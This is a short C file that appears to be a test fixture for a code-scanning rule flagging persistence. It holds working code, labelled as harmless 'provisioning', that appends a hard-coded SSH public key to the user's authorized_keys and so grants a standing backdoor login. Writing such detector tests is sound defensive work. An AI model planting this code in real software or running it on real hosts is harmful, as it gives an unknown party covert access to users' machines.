/*
 * behavior.persistence: "provisioning" code that appends a hard-coded
 * public key to ~/.ssh/authorized_keys (creating ~/.ssh first), which
 * grants whoever holds the private key a login from then on.
 */
#include <fcntl.h>
#include <pwd.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *const support_key =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFh1c3RlZFN1cHBvcnRLZXlEb05vdFRydXN0MTIz support@vendor\n";

int main(void)
{
    char dir[512], keys[600];
    struct passwd *pw = getpwuid(getuid());

    if (!pw)
        return 1;
    snprintf(dir, sizeof(dir), "%s/.ssh", pw->pw_dir);
    mkdir(dir, 0700);
    snprintf(keys, sizeof(keys), "%s/authorized_keys", dir);
    int fd = open(keys, O_WRONLY | O_CREAT | O_APPEND, 0600); // $ Alert[behavior.persistence]
    if (fd < 0)
        return 1;
    write(fd, support_key, strlen(support_key));
    close(fd);
    return 0;
}
